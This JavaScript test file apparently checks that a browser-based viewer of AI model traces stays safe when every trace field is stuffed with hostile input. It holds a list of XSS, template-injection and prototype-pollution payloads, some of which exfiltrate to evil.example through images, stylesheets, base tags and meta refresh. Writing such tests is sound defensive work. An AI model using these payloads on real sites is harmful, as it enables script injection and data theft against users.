// A page full of attacks: it makes no request, writes nothing to the console and runs no payload.

import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { launch, open } from './browser.mjs'
import { TraceBuilder, attribute, flat, page as pageOf } from './sample.mjs'

let browser
before(async () => { browser = await launch() })
after(() => browser.close())

const RUN = 'window.pwned=1'
export const PAYLOADS = [
  `</script><script>${RUN}</script>`, `<!--<script>${RUN}</script>`, `]]><script>${RUN}</script>`, `<img src=x onerror="${RUN}">`,
  `"><svg onload=${RUN}>`, `' onmouseover='${RUN}' x='`, `<iframe srcdoc="<script>parent.pwned=1</script>">`, `javascript:${RUN}`,
  `[click](javascript:${RUN})`, `![pixel](https://evil.example/?secret)`, `<https://evil.example>`, `[a](data:text/html,<script>${RUN}</script>)`,
  `<link rel=stylesheet href=https://evil.example/a.css>`, `<base href=https://evil.example/>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<style>@import "https://evil.example/a.css"</style>`, `</style><style>*{background:url(https://evil.example)}`, `</plaintext></textarea></title><script>${RUN}</script>`,
  '${' + RUN + '}', `{{constructor.constructor('${RUN}')()}}`, `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `\u202e<b>\u0000\u2028\u2029`, '__proto__', 'constructor', 'toString',
]

/** A trace that has a payload in every place. */
function hostileLine(payload, number) {
  const t = new TraceBuilder(0x4000 + number, { service: payload, session: `${payload} ${number % 3}`, user: payload })
  const root = t.span(payload, payload, null, 0, 100, {
    'input.value': payload, 'output.value': payload, 'input.mime_type': payload, [payload]: payload, metadata: JSON.stringify({ [payload]: payload }), 'tag.tags': [payload], 'code.file.path': `/${payload}`, 'code.line.number': 1,
  }, { error: payload, events: [[payload, { [payload]: payload }, 5]] })
  root.links = [{ traceId: payload, spanId: payload, attributes: [attribute(payload, payload)] }]
  const urls = [`data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`).toString('base64')}`, 'https://evil.example/cat.png', payload]
  t.llm(payload, root, 1, 50, payload, [
    { role: payload, content: payload, name: payload }, { role: 'user', content: `\`\`\`${payload}\n${payload}\n\`\`\`\n\`\`\`js\n"${payload}" // ${payload}` }, { role: 'user', contents: [...urls.map(url => ({ type: 'image', 'image.image.url': url })), { type: payload, text: payload }, { type: 'audio', 'audio.audio.url': urls[1] }] },
    { role: 'tool', callId: payload, content: JSON.stringify({ [payload]: payload }) },
  ], { role: 'assistant', content: payload, calls: [[payload, payload, { [payload]: payload }]] }, [1, 1], {
    'llm.finish_reason': payload, 'llm.invocation_parameters': payload, 'llm.tools.0.tool.json_schema': payload, 'llm.prompt_template.template': `{a} ${payload}`, 'llm.prompt_template.variables': JSON.stringify({ a: payload }),
  })
  t.span('TOOL', payload, root, 51, 60, { 'tool.name': payload, 'tool.id': payload, 'tool.description': payload, 'tool.parameters': payload, 'input.value': payload }, { error: payload })
  t.span('RETRIEVER', payload, root, 61, 70, { 'retrieval.documents.0.document.content': payload, 'retrieval.documents.0.document.id': payload, 'retrieval.documents.0.document.score': 0.5, 'retrieval.documents.0.document.metadata': payload })
  t.span('RERANKER', payload, root, 71, 80, { 'reranker.query': payload, 'reranker.model_name': payload, 'reranker.output_documents.0.document.content': payload })
  t.span('EMBEDDING', payload, root, 81, 90, { 'embedding.embeddings.0.embedding.text': payload, 'embedding.embeddings.0.embedding.vector': payload })
  t.span('EVALUATOR', payload, root, 91, 95, { 'output.value': JSON.stringify({ label: payload, [payload]: true }) })
  t.span('PROMPT', payload, root, 96, 99, flat(`llm.${payload}`, [{ role: payload, content: payload }]))
  return t.line()
}

/** All payloads in one trace first, then a trace for each. */
const HOSTILE = pageOf([PAYLOADS.join('\n'), ...PAYLOADS].map(hostileLine))

/**
 * Selects every row, in the other views those of the first trace, and opens everything that is folded.
 * Runs in the page.
 */
async function visitAll() {
  const press = key => document.body.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }))
  const seen = { rows: 0, opened: 0 }
  // The list learns its height in a frame.
  for (let i = 0; i < 2; i++) await new Promise(requestAnimationFrame)
  press('x')
  for (const view of ['1', '2', '3', '4']) {
    press(view)
    press('Home')
    for (let last = null, row; (row = document.querySelector('#selected-row')) && row.getAttribute('aria-rowindex') !== last; press('j')) {
      last = row.getAttribute('aria-rowindex')
      if (view !== '1' && Number(last) > 12) break
      seen.rows++
      for (let folded; (folded = document.querySelectorAll('.detail details:not([open])')).length;) {
        for (const details of folded) {
          details.open = true
          details.dispatchEvent(new Event('toggle'))
          seen.opened++
        }
      }
      for (const mode of document.querySelectorAll('.detail .modes button')) mode.click()
      for (const start of document.querySelectorAll('.detail .start')) start.click()
      // Pictures of the page may load now and then.
      if (seen.rows % 20 === 0) await new Promise(resolve => setTimeout(resolve, 20))
    }
  }
  return seen
}

test('hostile_page_makes_no_request_and_runs_nothing', async () => {
  const page = await open(browser, HOSTILE, { viewport: { width: 1400, height: 400 } })
  const seen = await page.evaluate(visitAll)
  assert.deepEqual([page.requests, page.messages], [[], []])
  assert.ok(seen.rows > 9 * PAYLOADS.length && seen.opened > 500, JSON.stringify(seen))
  assert.equal(await page.evaluate(() => window.pwned), undefined)
  assert.deepEqual([page.requests, page.messages], [[], []])
  const urls = await page.locator('a').evaluateAll(links => links.map(link => link.protocol))
  assert.ok(urls.every(protocol => ['http:', 'https:', 'vscode:'].includes(protocol)), String(urls))
  await page.context().close()
})

test('hostile_comparison_makes_no_request_and_runs_nothing', async () => {
  const page = await open(browser, pageOf([hostileLine(PAYLOADS[0], 0), hostileLine(PAYLOADS.join('\n'), 1)]))
  await page.click('.menu-button')
  await page.click('text=Compare this trace with')
  await page.click('dialog.menu button')
  for (let i = 0; i < 9; i++) await page.keyboard.press('n')
  assert.ok(await page.locator('.comparison .row').count() > 9)
  assert.equal(await page.evaluate(() => window.pwned), undefined)
  assert.deepEqual([page.requests, page.messages], [[], []])
  await page.context().close()
})

test('sinks_stay_blocked_from_inside', async () => {
  const page = await open(browser, HOSTILE)
  const results = await page.evaluate(async () => {
    const caught = async body => { try { await body(); return 'allowed' } catch { return 'blocked' } }
    const found = {
      markup: await caught(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
      script: await caught(() => { const node = document.createElement('script'); node.text = 'window.pwned=1'; document.body.append(node) }),
      code: await caught(() => setTimeout('window.pwned=1')),
      request: await caught(() => fetch('https://evil.example/')),
    }
    const image = document.createElement('img')
    found.image = await new Promise(resolve => {
      image.onload = () => resolve('allowed')
      image.onerror = () => resolve('blocked')
      image.src = 'https://evil.example/x.png'
    })
    return found
  })
  assert.deepEqual(results, { markup: 'blocked', script: 'blocked', code: 'blocked', request: 'blocked', image: 'blocked' })
  assert.equal(await page.evaluate(() => window.pwned), undefined)
  await page.context().close()
})
